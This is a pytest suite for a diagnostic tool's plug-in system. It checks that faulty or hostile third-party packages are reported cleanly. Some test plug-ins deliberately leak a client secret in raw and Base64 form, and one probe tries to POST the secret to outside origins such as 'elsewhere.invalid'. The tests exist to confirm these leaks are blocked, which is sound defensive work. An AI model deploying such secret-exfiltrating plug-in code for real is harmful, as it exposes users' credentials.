"""Somebody else's distribution, installed beside ours: what it adds stands in the report, what it breaks is a sentence.

Each test starts the program as a person does, with one more folder among the installed packages.
"""

import base64
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from shutil import copy
from typing import Any
from urllib.parse import quote

import pytest
from jsonschema import Draft202012Validator

from doctor.plugins import CHECKS, PROBES, load
from doctor.renderers import RENDERERS
from doctor.sandbox.message import json_answer
from doctor.sandbox.server import Sandbox
from doctor.sandbox.world import Rule, healthy
from doctor.schema import report_schema

ROOT = Path(__file__).parents[1]
CANARY = "cAnary+s3cret/wi th&odd=characters9"
FAULT = "edge-whitespace"
GOOD = {CHECKS: "acme_doctor:CHECKS", PROBES: "acme_doctor:PROBES", RENDERERS: "acme_doctor:render"}
HEAD = """
import base64, os
from dataclasses import dataclass
from doctor.api import Cause, Finding, Http, Missing, RunOptions, Stage, Target, check, probe
from doctor.model.secret import Vault

@dataclass(frozen=True)
class Mine:
    x: int

@dataclass(frozen=True)
class Nobodys:
    x: int

SECRET = os.environ.get("ATACCAMA_CLIENT_SECRET", "none")
declare = check(id="bad:check", title="Something of theirs holds", stage=Stage.API)
"""
CAUSE = """Cause(
    id="{id}", stage=Stage.API, worst="warn", title="Old", fix="f", reference="r", meaning="m", detection="d",
    steps=("s",), origin="o", prevention="p",
)"""
Done = subprocess.CompletedProcess[str]


@dataclass(frozen=True)
class Fault:
    """One way in which a package is bad, and the one sentence that is to be said of it."""

    group: str
    source: str
    sentence: str


BAD = {
    "cannot be imported": Fault(
        CHECKS,
        "import nothing_of_that_name",
        "The plug-in bad of bad-doctor cannot be loaded: ModuleNotFoundError: No module named 'nothing_of_that_name'.",
    ),
    "has a syntax error": Fault(CHECKS, "def (", "The plug-in bad of bad-doctor cannot be loaded: SyntaxError: *."),
    "leaves the program at import": Fault(
        CHECKS,
        "raise SystemExit(0)",
        "The plug-in bad of bad-doctor cannot be loaded: ImportError: it left the program (SystemExit).",
    ),
    "lacks what it names": Fault(CHECKS, "y = 1", "The plug-in bad of bad-doctor cannot be loaded: AttributeError: *."),
    "names what is no check": Fault(
        CHECKS, "x = 5", "The plug-in bad of bad-doctor cannot be used: bad_module:x is int, not a check."
    ),
    "has a check that wants to wait": Fault(
        CHECKS,
        "from doctor.api import Deferred, Realm\n@declare\ndef x(realm: Deferred[Realm]): ...",
        "The plug-in bad of bad-doctor cannot be loaded: SignatureProblem: "
        "check bad:check is pure: it cannot defer a fact.",
    ),
    "has a check with a cause that has no prefix": Fault(
        CHECKS,
        f"OLD = {CAUSE.format(id='old')}\n"
        "@check(id='bad:check', title='t', stage=Stage.API, causes=(OLD,))\ndef x(target: Target): ...",
        "The check bad:check of bad-doctor cannot be used: "
        "the cause old has no prefix; acme:old would be one of acme's.",
    ),
    "has a check that names a cause it does not declare": Fault(
        CHECKS,
        f"OLD = {CAUSE.format(id='bad:old')}\n"
        "@declare\ndef x(target: Target):\n    yield OLD.found(observed='o', expected='e')",
        "the check gave the cause bad:old, which it does not declare",
    ),
    "has a check that leaves the program": Fault(
        CHECKS, "@declare\ndef x(target: Target):\n    raise SystemExit(0)", "the check broke (SystemExit)"
    ),
    "has a check whose answer cannot be gone through": Fault(
        CHECKS, "@declare\ndef x(target: Target):\n    return 7", "the check broke (TypeError)"
    ),
    "has a probe that gives no fact": Fault(
        PROBES,
        "@probe(question='q')\ndef x(target: Target) -> int: ...",
        "The plug-in bad of bad-doctor cannot be loaded: SignatureProblem: "
        "x must be annotated to return one fact (a frozen dataclass).",
    ),
    "has a probe that gives a built-in's fact": Fault(
        PROBES,
        "from doctor.api import FirstAttempt\n@probe(question='q')\ndef x(http: Http) -> FirstAttempt: ...",
        "The plug-in x of bad-doctor was left out: ataccama-doctor has it already.",
    ),
    "has a probe that leaves the program": Fault(
        PROBES,
        "@probe(question='q')\ndef x(http: Http) -> Mine:\n    raise SystemExit(0)",
        "The probe x broke (SystemExit); it is of bad-doctor.",
    ),
    "has a probe that gives another fact": Fault(
        PROBES,
        "@probe(question='q')\ndef x(http: Http) -> Mine:\n    return 7",
        "The probe x gave int, not Mine; it is of bad-doctor.",
    ),
    "has a check with a parameter without type": Fault(
        CHECKS,
        "@declare\ndef x(thing): ...",
        "The plug-in bad of bad-doctor cannot be loaded: SignatureProblem: parameter thing of x has no type.",
    ),
    "has a check that raises": Fault(
        CHECKS, "@declare\ndef x(target: Target):\n    yield 1 / 0", "the check broke (ZeroDivisionError)"
    ),
    "has a check that yields no finding": Fault(
        CHECKS, "@declare\ndef x(target: Target):\n    yield 'bad'", "the check gave str, not findings"
    ),
    "has a check whose stage is a word": Fault(
        CHECKS,
        "@check(id='bad:check', title='t', stage='late')\ndef x(target: Target): ...",
        "The plug-in bad of bad-doctor cannot be used: "
        "bad_module:x has the check bad:check, whose stage is str, not a stage.",
    ),
    "has a check whose id is no text": Fault(
        CHECKS,
        "@check(id=['a'], title='t', stage=Stage.API)\ndef x(target: Target): ...",
        "The plug-in bad of bad-doctor cannot be used: bad_module:x has a check whose id or title is no text.",
    ),
    "raises at import what cannot say what it is": Fault(
        CHECKS,
        "class Mute(Exception):\n    def __str__(self):\n        raise self\nraise Mute",
        "The plug-in bad of bad-doctor cannot be loaded: Mute.",
    ),
    "has a check with a built-in id": Fault(
        CHECKS,
        "@check(id='jwt-expiry', title='t', stage=Stage.API)\ndef x(target: Target): ...",
        "The plug-in jwt-expiry of bad-doctor was left out: ataccama-doctor has it already.",
    ),
    "has a probe that raises": Fault(
        PROBES,
        "@probe(question='q')\ndef x(http: Http) -> Mine:\n    raise RuntimeError('boom')",
        "The probe x broke (RuntimeError*); it is of bad-doctor.",
    ),
    "has a probe that asks for the vault": Fault(
        PROBES,
        "@probe(question='q')\ndef x(vault: Vault) -> Mine:\n    return Mine(len(vault.secrets()))",
        "The plug-in probe x of bad-doctor asks for the vault, which plug-ins do not get.",
    ),
}
RENDERER_BAD = {
    "cannot be imported": ("import nothing_of_that_name", "cannot be loaded"),
    "leaves the program": ("raise SystemExit(0)", "cannot be loaded"),
    "takes nothing": ("def x(): return 'x'", "The renderer bad broke (TypeError), so nothing was"),
    "raises": ("def x(report, style): return 1 / 0", "The renderer bad broke (ZeroDivisionError), so nothing was"),
    "leaks the secret": ("def x(report, style): return 'it is ' + SECRET", "found the client secret (raw)"),
    "leaks the secret in Base64": (
        "def x(report, style): return base64.b64encode(b'id:' + SECRET.encode()).decode()",
        "found the client secret (",
    ),
}


def installed(folder: Path, name: str, points: dict[str, str], *, metadata: bool = True) -> Path:
    """The folder as an installer leaves it: the entry points of a distribution beside its module."""
    place = folder / f"{name.replace('-', '_')}-1.0.dist-info"
    place.mkdir(parents=True)
    short = name.partition("-")[0]
    lines = [f"[{group}]\n{short} = {value}\n" for group, value in points.items()]
    (place / "entry_points.txt").write_text("\n".join(lines), "utf-8")
    if metadata:
        (place / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n", "utf-8")
    return folder


def bad_package(folder: Path, group: str, source: str) -> Path:
    (folder / "bad_module.py").write_text(f"{HEAD}\n{source}\n", "utf-8")
    return installed(folder, "bad-doctor", {group: "bad_module:x"})


def told(folder: Path | None, *arguments: str, **environ: str) -> Done:
    """The program's answer with this folder among the installed packages; never a traceback."""
    path = os.pathsep.join(str(place) for place in (folder, ROOT) if place)
    kept = {name: os.environ[name] for name in ("PATH", "LANG", "SYSTEMROOT") if name in os.environ}
    done = subprocess.run(
        [sys.executable, "-m", "doctor", *arguments],
        env={**kept, "PYTHONPATH": path, "HOME": str(folder or ROOT), "PYTHONDONTWRITEBYTECODE": "1", **environ},
        cwd=folder or ROOT, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=30, check=False,
    )  # fmt: skip
    assert "Traceback" not in done.stdout + done.stderr
    return done


def examined(folder: Path, env: Sandbox, *arguments: str) -> Done:
    """``check`` on the environment, with its secret in the environment variable."""
    settings = {f"ATACCAMA_{name.upper()}": value for name, value in env.settings.items() if name != "ca_bundle"}
    return told(folder, "check", "--ca-bundle", env.ca_bundle, "--no-input", *arguments, **settings)


def report_of(done: Done) -> dict[str, Any]:
    assert done.stdout, done.stderr
    report: dict[str, Any] = json.loads(done.stdout)
    assert (done.returncode, done.stderr) == (report["exit_code"], "")
    return report


def checks_of(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {each["id"]: each for each in report["targets"][0]["checks"]}


def traces_of(secret: str, text: str) -> list[str]:
    """The forms in which the secret stands in a text, found without the product's own list of them."""
    forms = {"raw": secret, "percent": quote(secret, safe=""), "hex": secret.encode().hex()}
    forms["form"] = forms["percent"].replace("%20", "+")
    for lead in range(3):  # Base64 of it, at whatever place among other bytes
        forms[f"Base64 at {lead}"] = base64.b64encode(b"0" * lead + secret.encode()).decode()[4:-4]
    return [name for name, form in forms.items() if form.lower() in text.lower()]


def as_sentence(text: str) -> "re.Pattern[str]":
    return re.compile(re.escape(text).replace(r"\*", ".*"))


@pytest.fixture(scope="module")
def acme(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("acme")
    copy(Path(__file__).parent / "plugin_package" / "acme_doctor.py", folder)
    return installed(folder, "acme-doctor", GOOD)


@pytest.fixture(scope="module")
def with_acme(acme: Path) -> dict[str, Any]:
    return report_of(told(acme, "demo", "--format", "json"))


@pytest.fixture(scope="module")
def alone() -> dict[str, Any]:
    """What the same faulty environment is told without any plug-in."""
    return report_of(told(None, "demo", "--fault", FAULT, "--format", "json"))


@pytest.fixture(scope="module")
def talkative() -> Iterator[Sandbox]:
    """An environment whose front page repeats the client secret in body, header and cookie."""
    page = json_answer(200, {"echo": CANARY, "deep": [{"client_secret": CANARY}]})
    rule = Rule(page.with_headers(("X-Echo", CANARY), ("Set-Cookie", f"s={CANARY}")), "/acme")
    with Sandbox(healthy().with_client(secret=CANARY).with_edge(rules=(rule,))) as environment:
        yield environment


@pytest.fixture(scope="module")
def echoed(acme: Path, talkative: Sandbox) -> Done:
    """The company's page read where it repeats the secret."""
    return examined(acme, talkative, "--format", "json", "--report", f"html={acme / 'echoed.html'}")


def test_a_packages_check_stands_after_ours_and_names_its_own_cause(with_acme: dict[str, Any]) -> None:
    ids = list(checks_of(with_acme))
    assert ids == [*(check.id for check in load().checks if check.provider == "ataccama-doctor"), "acme:front-page"]
    last = checks_of(with_acme)["acme:front-page"]
    assert (last["outcome"], last["stage"], last["findings"][0]["cause"]) == ("warn", "api", "acme:no-front-page")
    assert (with_acme["exit_code"], with_acme["verdict"]) == (0, "warnings")


def test_a_packages_fact_stands_after_ours_and_its_question_among_the_exchanges(with_acme: dict[str, Any]) -> None:
    target = with_acme["targets"][0]
    last = target["facts"][-1]
    assert (last["type"], last["version"], last["value"]["status"]) == ("FrontPage", 1, 404)
    (asked,) = [each for each in target["exchanges"] if each["purpose"] == "read the front page"]
    assert asked["request"]["method"] == "GET"
    assert asked["request"]["url"].endswith("/acme")
    assert asked["response"]["status"] == 404


def test_the_report_with_a_packages_cause_follows_the_schema(with_acme: dict[str, Any]) -> None:
    ours = {cause.id for check in load().checks for cause in check.causes if ":" not in cause.id}
    assert [error.message for error in Draft202012Validator(report_schema(ours)).iter_errors(with_acme)] == []


def test_list_names_the_package_that_brought_a_check(acme: Path) -> None:
    listed = json.loads(told(acme, "list", "--format", "json").stdout)["checks"]
    assert {check["provider"] for check in listed[:-1]} == {"ataccama-doctor"}
    assert (listed[-1]["id"], listed[-1]["provider"]) == ("acme:front-page", "acme-doctor")
    assert listed[-1]["causes"] == ["acme:no-front-page"]
    assert "The front page is there (from acme-doctor)" in told(acme, "list").stdout


def test_explain_has_the_page_of_a_packages_cause(acme: Path) -> None:
    done = told(acme, "explain", "acme:no-front-page")
    assert done.returncode == 0
    assert "Nobody has put the company's page up." in done.stdout


def test_a_packages_format_goes_to_stdout_and_to_a_file(acme: Path, tmp_path: Path) -> None:
    done = told(acme, "demo", "--format", "acme", "--report", f"acme={tmp_path / 'r.txt'}")
    assert (done.returncode, done.stderr) == (0, "")
    assert re.fullmatch(r"acme says warnings, \d+ checks\n", done.stdout)
    assert (tmp_path / "r.txt").read_text("utf-8").strip() == done.stdout.strip()


def test_a_probe_never_sees_the_secret_by_public_names_though_the_server_repeats_it(echoed: Done) -> None:
    value = front_page_of(report_of(echoed))
    handed = "".join(chr(ord(character) - 1) for character in value["handed"])
    assert value["status"] == 200
    assert "[client secret removed]" in handed
    assert "Guarded.ask" in handed
    assert traces_of(CANARY, handed) == []


def test_what_a_probe_digs_out_of_private_names_does_not_leave(echoed: Done, acme: Path) -> None:
    assert "Secret(client secret)" in front_page_of(report_of(echoed))["dug"]  # it did get at the vault
    page = (acme / "echoed.html").read_text("utf-8")
    assert "read the front page" in page
    assert traces_of(CANARY, echoed.stdout + page) == []


def front_page_of(report: dict[str, Any]) -> dict[str, Any]:
    (value,) = [fact["value"] for fact in report["targets"][0]["facts"] if fact["type"] == "FrontPage"]
    return dict(value)


@pytest.mark.parametrize("fault", BAD.values(), ids=BAD)
def test_one_sentence_and_exit_code_4_and_the_same_diagnosis_when_a_package(
    fault: Fault, alone: dict[str, Any], tmp_path: Path
) -> None:
    folder = bad_package(tmp_path, fault.group, fault.source)
    report = report_of(told(folder, "demo", "--fault", FAULT, "--format", "json"))
    (broken,) = [check for check in checks_of(report).values() if check["outcome"] == "error"]
    assert as_sentence(fault.sentence).fullmatch(broken["skip_reason"])
    assert (report["exit_code"], report["verdict"], report["summary"]["errors"]) == (4, "error", 1)
    assert_same_diagnosis(report, alone)


def assert_same_diagnosis(report: dict[str, Any], alone: dict[str, Any]) -> None:
    """Our checks ended as without the plug-in, and name the same first cause in the same words."""
    assert report["targets"][0]["diagnosis"] == alone["targets"][0]["diagnosis"]
    assert report["targets"][0]["diagnosis"]["cause"] == FAULT
    ours = {name: check["outcome"] for name, check in checks_of(alone).items()}
    assert {name: check["outcome"] for name, check in checks_of(report).items() if name in ours} == ours


def test_a_check_that_reads_what_nobody_provides_is_skipped_with_the_reason(
    alone: dict[str, Any], tmp_path: Path
) -> None:
    folder = bad_package(tmp_path, CHECKS, "@declare\ndef x(thing: Nobodys): ...")
    report = report_of(told(folder, "demo", "--fault", FAULT, "--format", "json"))
    theirs = checks_of(report)["bad:check"]
    assert (theirs["outcome"], theirs["skip_reason"]) == ("skip", "nobody provides Nobodys")
    assert (report["exit_code"], report["verdict"]) == (alone["exit_code"], alone["verdict"]) == (1, "failed")
    assert_same_diagnosis(report, alone)


def test_list_names_a_package_that_cannot_be_used_on_stderr(tmp_path: Path) -> None:
    fault = BAD["cannot be imported"]
    done = told(bad_package(tmp_path, fault.group, fault.source), "list")
    assert (done.returncode, done.stderr) == (4, f"ataccama-doctor: {fault.sentence}\n")
    assert "jwt-expiry" in done.stdout


@pytest.mark.parametrize(("source", "words"), RENDERER_BAD.values(), ids=RENDERER_BAD)
def test_one_sentence_on_stderr_and_no_output_when_a_renderer(
    source: str, words: str, talkative: Sandbox, tmp_path: Path
) -> None:
    short, theirs = tmp_path / "short", tmp_path / "theirs"
    reports = ("--report", f"bad={theirs}", "--report", f"short={short}")
    done = examined(bad_package(tmp_path, RENDERERS, source), talkative, "--format", "bad", *reports)
    assert (done.returncode, done.stdout, theirs.exists()) == (4, "", False)
    file, stdout = done.stderr.splitlines()
    assert file == stdout
    assert re.fullmatch(r"ataccama-doctor: [^\n]+\.", file)
    assert words in file
    assert " passed" in short.read_text("utf-8")
    assert traces_of(CANARY, done.stderr + short.read_text("utf-8")) == []


def test_packages_without_metadata_do_not_keep_the_others_out(acme: Path, tmp_path: Path) -> None:
    copy(acme / "acme_doctor.py", tmp_path)
    installed(tmp_path, "acme-doctor", GOOD)
    installed(tmp_path, "nameless-doctor", {CHECKS: "nothing_of_that_name:x"}, metadata=False)
    report = report_of(told(tmp_path, "demo", "--format", "json"))
    assert checks_of(report)["acme:front-page"]["outcome"] == "warn"
    assert "of unknown cannot be loaded" in checks_of(report)["plugin:nameless"]["skip_reason"]


CHATTY = """
print("at import")

@probe(question="q")
def asks(http: Http) -> Mine:
    print("while asking")
    return Mine(1)

@check(id="bad:check", title="t", stage=Stage.API)
def looks(mine: Mine):
    print("while checking")
    yield from ()

def render(report, style):
    print("while rendering")
    return "the report"
"""


def test_what_a_package_prints_is_no_part_of_the_report(tmp_path: Path) -> None:
    (tmp_path / "bad_module.py").write_text(f"{HEAD}\n{CHATTY}\n", "utf-8")
    points = {CHECKS: "bad_module:looks", PROBES: "bad_module:asks", RENDERERS: "bad_module:render"}
    done = told(installed(tmp_path, "bad-doctor", points), "demo", "--format", "bad")
    assert (done.returncode, done.stdout) == (0, "the report\n")
    assert done.stderr.splitlines() == ["at import", "while asking", "while checking", "while rendering"]
    assert told(tmp_path, "schema").stdout.startswith("{")


def test_a_probe_that_never_ends_is_left_behind_at_the_deadline(talkative: Sandbox, tmp_path: Path) -> None:
    source = "import time\n@probe(question='q')\ndef x(http: Http) -> Mine:\n    time.sleep(60)"
    done = examined(bad_package(tmp_path, PROBES, source), talkative, "--format", "json", "--deadline", "1")
    report = report_of(done)
    assert checks_of(report)["protected-get"]["outcome"] == "pass"
    assert report["duration_ms"] < 2500


def test_a_renderer_that_takes_a_built_ins_name_is_not_used(tmp_path: Path) -> None:
    place = bad_package(tmp_path, RENDERERS, "def x(report, style): return 'MINE'")
    names = next(tmp_path.glob("*.dist-info")) / "entry_points.txt"
    names.write_text(names.read_text("utf-8").replace("bad =", "short ="), "utf-8")
    done = told(place, "demo", "--format", "short")
    assert done.returncode == 0
    assert "passed" in done.stdout
    assert "MINE" not in done.stdout


STEALING = """
from doctor.api import Endpoint, Request, SecretRef
@dataclass(frozen=True)
class Loot:
    words: str
@probe(question="q")
def x(http: Http) -> Loot:
    said = []
    for origin in ("https://127.0.0.1:1", "http://127.0.0.1:1", "http://elsewhere.invalid"):
        for variant in ("as given", "swapped"):
            form = {"note": SecretRef("client_secret", variant)}
            answer = http.ask(Request("steal", Endpoint.API, "POST", origin + "/", form=form))
            said.append(str(getattr(answer, "kind", answer)))
    return Loot(", ".join(said))
"""


def test_the_transport_sends_no_secret_to_where_a_probe_wants_it(talkative: Sandbox, tmp_path: Path) -> None:
    done = examined(bad_package(tmp_path, PROBES, STEALING), talkative, "--format", "json")
    (loot,) = (f["value"]["words"] for f in report_of(done)["targets"][0]["facts"] if f["type"] == "Loot")
    assert loot == ", ".join(["not sent"] * 6)
    assert traces_of(CANARY, done.stdout) == []
